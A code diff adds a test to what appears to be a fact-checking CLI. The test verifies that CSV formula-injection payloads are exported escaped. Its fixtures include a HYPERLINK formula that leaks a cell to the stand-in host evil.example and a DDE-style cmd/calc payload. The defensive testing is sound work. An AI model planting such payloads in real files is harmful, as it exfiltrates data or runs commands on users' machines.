@@ -123,3 +123,30 @@ def test_the_app_binds_to_loopback_unless_configured() -> None:
     assert config["server"]["address"] == "127.0.0.1"
     script = (ROOT / "scripts" / "run.sh").read_text(encoding="utf-8")
     assert '--server.address "${FACTCHECK_ADDRESS:-127.0.0.1}"' in script
+
+
+def test_a_ratings_csv_with_formula_payloads_is_stored_as_text_and_exported_safe(
+    run: Cli, tmp_path: Path, demo_text: str
+) -> None:
+    import csv
+    import io
+
+    path = tmp_path / "demo.txt"
+    path.write_text(demo_text, encoding="utf-8")
+    article = run.json("import", str(path))[0]["article_id"]
+    claim = claims_of(run, article)[2]["claim_id"]
+    run.ok("rate", str(claim), "--reviewer", "ana", "--reliability", "B", "--credibility", "2")
+    rows = list(csv.DictReader(io.StringIO(run.ok("export").stdout)))
+    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    rows[0]["notes"] = payload
+    rows[0]["speaker"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    rows[0]["rated_at"] = "2099-01-01T00:00:00Z"
+    offline = tmp_path / "offline.csv"
+    with offline.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    run.ok("merge-ratings", str(offline))
+    exported = next(csv.DictReader(io.StringIO(run.ok("export").stdout)))
+    assert exported["notes"] == "'" + payload
+    assert exported["speaker"].startswith("'@SUM")
